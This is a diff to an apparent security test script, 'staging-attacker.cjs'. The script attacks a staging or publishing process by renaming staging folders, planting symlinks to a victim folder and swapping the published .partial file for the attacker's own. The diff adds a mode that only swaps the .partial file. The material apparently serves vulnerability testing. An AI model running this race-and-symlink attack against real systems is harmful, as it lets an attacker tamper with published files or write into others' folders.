@@ -4,6 +4,7 @@
 // are symlinks to a victim folder; and swap the reserved .partial for the attacker's own file.
 //
 //   node staging-attacker.cjs OUT LOOT VICTIM once    act on what is there now, then exit
+//   node staging-attacker.cjs OUT LOOT VICTIM partial only swap the .partial (what gets published), then exit
 //   node staging-attacker.cjs OUT LOOT VICTIM watch   watch OUT (inotify) and act on every
 //                                                     staging folder that appears, until killed
 // Prints one JSON line per attempt: {staging, renamed, planted, partial, errors}.
@@ -26,7 +27,7 @@ function attack(entry) {
   } catch (e) {
     r.errors.push(`prepare: ${e.code}`);
   }
-  try {
+  if (mode !== 'partial') try {
     fs.renameSync(path.join(out, entry), path.join(out, `stolen-${entry.slice(1)}`));
     r.renamed = true;
     fs.symlinkSync(fake, path.join(out, entry));
